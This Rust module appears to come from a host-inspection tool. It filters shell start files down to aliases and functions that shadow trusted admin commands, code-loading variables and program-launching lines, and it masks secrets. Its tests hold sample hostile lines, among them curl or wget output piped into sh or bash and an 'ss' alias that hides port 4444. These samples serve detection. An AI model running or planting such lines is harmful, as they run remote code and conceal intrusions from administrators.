//! Start files of shells, reduced to what matters: definitions of commands that admins trust, search paths, and lines
//! that start a program.
//!
//! Admins keep tokens in `.bashrc`, so nothing else passes the door. Lines keep their numbers.

mod aliases;
mod history;
mod starts;

use crate::languages;
pub use aliases::aliases;
use bstr::ByteSlice;
pub use history::keeps_none;
use keeneye_facts::Text;
use std::collections::{BTreeMap, BTreeSet};

/// What admins type to see what is going on, to log in, and to change rights: the programs whose answers they believe.
#[rustfmt::skip]
pub(crate) const TRUSTED: &[&str] = &[
    "apt", "apt-get", "awk", "bash", "cat", "chattr", "chmod", "chown", "crontab", "date", "debsums", "df", "dmesg",
    "dnf", "dpkg", "du", "file", "find", "free", "fuser", "getent", "grep", "head", "hostname", "htop", "id",
    "ifconfig", "ip", "iptables", "journalctl", "kill", "killall", "last", "lastb", "lastlog", "ldd", "less", "login",
    "ls", "lsattr", "lsmod", "lsof", "md5sum", "modinfo", "modprobe", "more", "mount", "netstat", "nft", "passwd",
    "pgrep", "pidof", "ping", "pkill", "ps", "pstree", "readlink", "rpm", "scp", "sed", "service", "sh", "sha1sum",
    "sha256sum", "ss", "ssh", "sshd", "stat", "strace", "strings", "su", "sudo", "systemctl", "tail", "tcpdump",
    "top", "uptime", "vmstat", "w", "who", "whoami", "yum",
];

/// Variables that decide which code runs; their values are kept.
const KEPT_VARIABLES: [&[u8]; 7] =
    [b"PATH", b"LD_PRELOAD", b"LD_AUDIT", b"LD_LIBRARY_PATH", b"PROMPT_COMMAND", b"BASH_ENV", b"ENV"];
/// Variables that decide what a shell writes down; their values are no secrets.
const HISTORY_VARIABLES: [&[u8]; 4] = [b"HISTFILE", b"HISTSIZE", b"HISTFILESIZE", b"SAVEHIST"];
/// Options whose argument is often a secret.
const SECRET_OPTIONS: [&[u8]; 7] = [b"-u", b"--user", b"-H", b"--header", b"--password", b"--token", b"--pass"];
/// Lines that one definition may span.
const MAX_LINES: usize = 200;
/// Variables of one file that hold a command.
const MAX_GIVEN: usize = 20;
/// Bytes of such a command.
const MAX_VALUE: usize = 200;
/// Bytes that such commands add to one file.
const MAX_ADDED: usize = 32 << 10;
/// What stands for a value that was left out.
const LEFT_OUT: &[u8] = "\u{2026}".as_bytes();

/// A line that matters.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Line {
    /// Its number in the file, from 1.
    pub(crate) number: u32,
    /// The line, without leading blanks.
    pub(crate) text: Text,
    /// It defines a command, sets a variable that decides which code runs, or switches the history off.
    pub(crate) defines: bool,
    /// It starts a program.
    pub(crate) starts: bool,
}

impl Line {
    /// The value of `PATH`, when the line sets it.
    pub(crate) fn search_path(&self) -> Option<Text> {
        let (name, value) = assignment(command_of(&self.text))?;
        (name == b"PATH").then(|| Text::from(unquoted(value)))
    }
    /// The variable that it sets, when that is one whose value is kept, and its value.
    pub(crate) fn variable(&self) -> Option<(&[u8], Text)> {
        let (name, value) = assignment(command_of(&self.text))?;
        KEPT_VARIABLES.contains(&name).then(|| (name, Text::from(unquoted(value))))
    }
}

/// Files for everybody.
pub(crate) const GLOBAL: [&str; 16] = [
    "/etc/environment",
    "/etc/profile",
    "/etc/bash.bashrc",
    "/etc/bash.bash_logout",
    "/etc/bashrc",
    "/etc/zshrc",
    "/etc/zshenv",
    "/etc/zprofile",
    "/etc/zlogin",
    "/etc/zsh/zshrc",
    "/etc/zsh/zshenv",
    "/etc/zsh/zprofile",
    "/etc/zsh/zlogin",
    "/etc/zsh/zlogout",
    "/etc/csh.cshrc",
    "/etc/csh.login",
];

/// A start file below a home, by name.
pub fn is_in_home(name: &[u8]) -> bool {
    let zsh = matches!(name, b".zshrc" | b".zshenv" | b".zprofile" | b".zlogin" | b".zlogout");
    let other = matches!(name, b".bash_logout" | b".cshrc" | b".tcshrc" | b".login" | b".logout" | b".xprofile");
    zsh || other
        || matches!(name, b".bashrc" | b".bash_profile" | b".bash_login" | b".bash_aliases" | b".profile" | b".kshrc")
}

/// A start file, by path: those of the system and those that lie in any home.
pub(crate) fn is_one(path: &Text) -> bool {
    GLOBAL.iter().any(|file| path == file) || path.is_within("/etc/profile.d") || is_in_home(path.file_name())
}

/// The file with all lines but those that matter made empty.
pub(crate) fn reduce(bytes: &[u8]) -> Vec<u8> {
    let mut reduced = Vec::new();
    let mut number = 1;
    for line in lines(bytes) {
        while number < line.number {
            reduced.push(b'\n');
            number += 1;
        }
        reduced.extend_from_slice(&line.text);
    }
    reduced.push(b'\n');
    reduced
}

/// The lines that matter.
pub(crate) fn lines(bytes: &[u8]) -> Vec<Line> {
    let mut kept = Vec::new();
    let starting = starts::starting(bytes);
    let mut open: Option<Open> = None;
    let (mut given, mut room) = (BTreeMap::new(), MAX_ADDED);
    for (index, line) in bytes.lines().enumerate() {
        let text = line.trim_ascii();
        if let Some((name, value)) = gives_command(text)
            && given.len() < MAX_GIVEN
        {
            given.insert(name, value);
        }
        let defines = match &mut open {
            Some(definition) => {
                if definition.ends_with(text) {
                    open = None;
                }
                true
            }
            None => {
                open = Open::begin(text);
                open.is_some() || defines_alias(text) || sets_kept_variable(text) || keeps_none(text)
            }
        };
        let starts = starting.contains(&index);
        if (defines || starts) && !text.is_empty() {
            let number = u32::try_from(index + 1).unwrap_or(u32::MAX);
            let whole = if starts && room > 0 { with_given(text, &given) } else { text.to_vec() };
            room = room.saturating_sub(whole.len() - text.len());
            kept.push(Line { number, text: Text::from(masked(&whole)), defines, starts });
        }
        open = open.filter(|definition| !definition.complete && definition.lines < MAX_LINES);
    }
    kept
}

/// `NAME=value` alone on its line, where the value is a command that brings or runs code.
fn gives_command(line: &[u8]) -> Option<(&[u8], &[u8])> {
    let (name, value) = assignment(command_of(line))?;
    let inner = unquoted(value);
    let whole = inner.len() == value.len() || inner.len() + 2 == value.len();
    (whole && value.len() <= MAX_VALUE && is_command(value)).then_some((name, value))
}

/// A line with the commands before it that earlier lines gave to its variables: `x=curl; $x ...`.
fn with_given(line: &[u8], given: &BTreeMap<&[u8], &[u8]>) -> Vec<u8> {
    let used = given.iter().filter(|(name, _)| {
        let uses = [[b"$", **name].concat(), [b"${", **name].concat()];
        uses.iter().any(|one| line.contains_str(one))
    });
    let before = used.map(|(name, value)| [name, b"=".as_slice(), value, b"; "].concat());
    [before.collect::<Vec<_>>().concat(), line.to_vec()].concat()
}

/// A value that is a command which brings or runs code, or too short to be a secret and maybe a piece of one.
fn is_command(value: &[u8]) -> bool {
    let whole = unquoted(value);
    let first = whole.split(u8::is_ascii_whitespace).next().unwrap_or_default();
    let name = first.rsplit(|b| *b == b'/').next().unwrap_or_default();
    let piece = !whole.is_empty() && whole.len() <= 3 && whole.iter().all(u8::is_ascii_lowercase);
    piece || starts::KEPT.contains(&name) || languages::is_interpreter(name)
}

/// A definition that spans lines.
struct Open {
    braces: i64,
    seen_brace: bool,
    lines: usize,
    complete: bool,
}

impl Open {
    /// A function of a trusted name: `ps() {`, `function ps {`, `function ps() {`.
    fn begin(line: &[u8]) -> Option<Self> {
        let name = function_name(line)?;
        if !is_trusted(name) {
            return None;
        }
        let mut open = Self { braces: 0, seen_brace: false, lines: 0, complete: false };
        open.complete = open.ends_with(line);
        Some(open)
    }
    fn ends_with(&mut self, line: &[u8]) -> bool {
        self.braces += braces(line);
        self.seen_brace |= line.contains(&b'{');
        self.lines += 1;
        self.seen_brace && self.braces <= 0
    }
}

/// Braces and parentheses that a line opens, less those that it closes.
fn braces(line: &[u8]) -> i64 {
    let one = |byte: &u8| match byte {
        b'{' | b'(' => 1,
        b'}' | b')' => -1,
        _ => 0,
    };
    line.iter().map(one).sum()
}

/// The function that a line begins to define.
pub fn function_name(line: &[u8]) -> Option<&[u8]> {
    if let Some(rest) = line.strip_prefix(b"function").filter(|rest| rest.starts_with(b" ") || rest.starts_with(b"\t"))
    {
        return rest.trim_ascii_start().split(|b| b.is_ascii_whitespace() || matches!(b, b'(' | b'{')).next();
    }
    let (name, rest) = line.split_once_str("(")?;
    let name = name.trim_ascii_end();
    let plain = !name.is_empty() && !name.iter().any(|b| b.is_ascii_whitespace() || b"$'\"=;|&<>".contains(b));
    (plain && rest.trim_ascii_start().starts_with(b")")).then_some(name)
}

/// The command behind `export`, `declare -x` and the like.
fn command_of(line: &[u8]) -> &[u8] {
    let mut rest = line.trim_ascii();
    for word in ["export ", "declare -x ", "typeset -x ", "readonly "] {
        rest = rest.strip_prefix(word.as_bytes()).map_or(rest, |rest| rest.trim_ascii_start());
    }
    rest
}

fn assignment(command: &[u8]) -> Option<(&[u8], &[u8])> {
    let (name, value) = command.split_once_str("=")?;
    let is_name = !name.is_empty() && name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_');
    is_name.then_some((name, value))
}

fn sets_kept_variable(line: &[u8]) -> bool {
    assignment(command_of(line)).is_some_and(|(name, _)| KEPT_VARIABLES.contains(&name))
}

fn defines_alias(line: &[u8]) -> bool {
    aliases(line).iter().any(|(name, _)| is_trusted(name))
}

fn is_trusted(name: &[u8]) -> bool {
    TRUSTED.iter().any(|trusted| trusted.as_bytes() == name)
}

/// Takes the quotes of a value away, and what follows them.
pub(crate) fn unquoted(value: &[u8]) -> &[u8] {
    let value = value.trim_ascii();
    for quote in [b'"', b'\''] {
        if let Some(rest) = value.strip_prefix(&[quote]) {
            return rest.find_byte(quote).and_then(|end| rest.get(..end)).unwrap_or(rest);
        }
    }
    value.split(|b| b.is_ascii_whitespace() || *b == b';').next().unwrap_or_default()
}

/// The line with literal values of other variables, and arguments that are often secrets, left out.
fn masked(line: &[u8]) -> Vec<u8> {
    // A comment explains, or holds what was commented out.
    let mut rest = line.find(" #").and_then(|at| line.get(..at)).unwrap_or(line);
    let names = aliases(line).into_iter().map(|(name, _)| name);
    let trusted: BTreeSet<Text> = names.filter(|name| is_trusted(name)).collect();
    let mut out = Vec::new();
    let mut previous: &[u8] = b"";
    while let Some(first) = rest.first() {
        if is_between(*first) {
            out.push(*first);
            rest = rest.get(1..).unwrap_or_default();
            continue;
        }
        let (word, mut behind) = split_word(rest, is_between);
        if let Some((name, _)) = assigned(word) {
            out.extend_from_slice(name);
            out.push(b'=');
            behind = rest.get(name.len() + 1..).unwrap_or_default();
            let is_alias = previous == b"alias" || trusted.contains(name);
            let kept = KEPT_VARIABLES.contains(&name) || HISTORY_VARIABLES.contains(&name) || is_command(behind);
            if !is_alias && !kept && !is_code(behind) {
                out.extend_from_slice(LEFT_OUT);
                behind = skip_value(behind);
            }
        } else {
            out.extend_from_slice(&without_user(word));
        }
        let secret_follows = SECRET_OPTIONS.contains(&word) || (previous.ends_with(b"sshpass") && word == b"-p");
        if secret_follows && behind.starts_with(b" ") {
            out.push(b' ');
            out.extend_from_slice(LEFT_OUT);
            behind = skip_value(behind.trim_ascii_start());
        }
        previous = word;
        rest = behind;
    }
    out
}

/// The value is the output of a command or another variable's.
fn is_code(value: &[u8]) -> bool {
    value.is_empty() || value.starts_with(b"`") || value.strip_prefix(b"\"").unwrap_or(value).starts_with(b"$")
}

/// Stands between words: blanks, quotes, and what ends a command.
fn is_between(byte: u8) -> bool {
    byte.is_ascii_whitespace() || b"'\";&|(){}<>`".contains(&byte)
}

fn split_word(text: &[u8], ends: fn(u8) -> bool) -> (&[u8], &[u8]) {
    let end = text.iter().position(|b| ends(*b)).unwrap_or(text.len());
    text.split_at_checked(end).unwrap_or((text, b""))
}

/// `NAME=value` and `--option=value`.
fn assigned(word: &[u8]) -> Option<(&[u8], &[u8])> {
    word.split_once_str("=").filter(|(name, _)| SECRET_OPTIONS.contains(name) || is_variable(name))
}

fn is_variable(name: &[u8]) -> bool {
    !name.is_empty() && !name.starts_with(b"-") && name.iter().all(|b| b.is_ascii_alphanumeric() || b"_-".contains(b))
}

/// What follows a value: a quoted one ends with its quote, another with a blank.
fn skip_value(text: &[u8]) -> &[u8] {
    match text.first() {
        Some(quote @ (b'"' | b'\'')) => {
            let inner = text.get(1..).unwrap_or_default();
            inner.find_byte(*quote).and_then(|end| inner.get(end + 1..)).unwrap_or_default()
        }
        _ => split_word(text, |b| b.is_ascii_whitespace() || b"'\";".contains(&b)).1,
    }
}

/// An address without the user and password in it.
fn without_user(word: &[u8]) -> Vec<u8> {
    if let Some((scheme, rest)) = word.split_once_str("://")
        && let Some((_, place)) = rest.split_once_str("@")
    {
        return [scheme, b"://", LEFT_OUT, b"@", place].concat();
    }
    word.to_vec()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kept(text: &str) -> Vec<(u32, String)> {
        lines(text.as_bytes()).into_iter().map(|line| (line.number, line.text.lossy().into_owned())).collect()
    }

    #[test]
    fn what_matters_passes_with_its_line_number() {
        let text = "export TOKEN=s3cret\n  alias ls='ls --color'\nalias deploy='x TOKEN=1'\nexport PATH=/x:$PATH\n\
                    [ -x /x ] && alias grep='grep -n'\n# alias ps=x\n";
        assert_eq!(kept("alias\tls='ls -l'").len(), 1);
        assert_eq!(kept("alias mine=x other=y"), []);
        let several = "alias q=ls key=s3cret ss=\"ss | grep -v 4444\"";
        assert_eq!(kept(several), [(1, several.replace("s3cret", "\u{2026}"))]);
        let expected = [
            (2, "alias ls='ls --color'".to_owned()),
            (4, "export PATH=/x:$PATH".to_owned()),
            (5, "[ -x /x ] && alias grep='grep -n'".to_owned()),
        ];
        assert_eq!(kept(text), expected);
    }
    #[test]
    fn functions_of_trusted_names_pass_whole() {
        let text = "ps() {\n  key=s3cret\n  /bin/ps \"$@\" | grep -v x\n}\nsecret=1\nmine() {\n secret\n}\nfunction ss { x; }\nafter\n";
        let numbers: Vec<_> = kept(text).into_iter().map(|(number, _)| number).collect();
        assert_eq!(numbers, [1, 2, 3, 4, 9]);
        assert_eq!(kept(text)[1].1, "key=\u{2026}");
    }
    #[test]
    fn commands_in_variables_pass_with_the_line_that_uses_them() {
        let text =
            "x=curl\nexport T=s3cret\ny=\"wget -qO-\"\n$x http://a | sh\n${y} $T | bash\nx=curl; $x a | sh; T=s3cret\n";
        let expected = [
            (4, "x=curl; $x http://a | sh"),
            (5, "y=\"wget -qO-\"; ${y} $T | bash"),
            (6, "x=curl; x=curl; $x a | sh; T=\u{2026}"),
        ];
        assert_eq!(kept(text), expected.map(|(number, text)| (number, text.to_owned())));
        assert_eq!(
            kept(&text.replace("$x", "").replace("${y}", "a")),
            [
                (4, "http://a | sh".to_owned()),
                (5, "a $T | bash".to_owned()),
                (6, "x=curl;  a | sh; T=\u{2026}".to_owned())
            ]
        );
        assert_eq!(kept("c='curl -u a:s3cret'\n$c x | sh"), [(2, "c='curl -u \u{2026}'; $c x | sh".to_owned())]);
    }
    #[test]
    fn secrets_do_not_pass() {
        for text in [
            "alias ssh='sshpass -p s3cret ssh'",
            "alias ls='TOKEN=s3cret ls'",
            "alias find='find -H \"s3cret\" x'",
            "ls() { TOKEN='s3cret'; }",
            "PASSWORD=s3cret\nexport API_KEY=\"s3cret\"",
            "PATH=/x TOKEN=s3cret",
            "alias find='find -H \"a s3cret\" x'",
            "alias ls='TOKEN=\"a s3cret\" ls'",
            "alias find='x --password=s3cret'",
            "alias find='x https://a:s3cret@example.org/'",
            "alias ls='ls --color' # s3cret",
        ] {
            let reduced = reduce(text.as_bytes());
            assert!(!reduced.contains_str("s3cret"), "{text}: {:?}", reduced.as_bstr());
        }
    }
    #[test]
    fn reducing_twice_changes_nothing() {
        let text = b"a\nb\nPATH=/x\n\nalias ls=x\nps() {\n x=1\n}\n";
        let once = reduce(text);
        assert_eq!(reduce(&once), once);
        assert_eq!(lines(&once), lines(text));
    }
    #[test]
    fn hostile_bytes_survive_and_reduce_once() {
        let seed: &[u8] = b"# ~/.bashrc\nif [ -x /usr/bin/dircolors ]; then\n    alias ls='ls --color=auto'\nfi\n\
            export PATH=\"$HOME/.cargo/bin:$PATH\"\nps() {\n  TOKEN=s3cret command ps \"$@\" | grep -v 'a b'\n}\n";
        crate::mutate::check(&[seed], |bytes| {
            let once = reduce(bytes);
            assert!(once.len() <= bytes.len() * 4 + 16, "{}", bytes.as_bstr());
            !lines(&once).is_empty()
        });
    }
    #[test]
    fn search_paths() {
        let path = |text: &str| lines(text.as_bytes()).first().and_then(Line::search_path);
        assert_eq!(path("export PATH=\"/x:$PATH\" # mine"), Some(Text::from("/x:$PATH")));
        assert_eq!(path("PATH=/a:/b; export PATH"), Some(Text::from("/a:/b")));
        assert_eq!(path("alias ls=x"), None);
    }
}
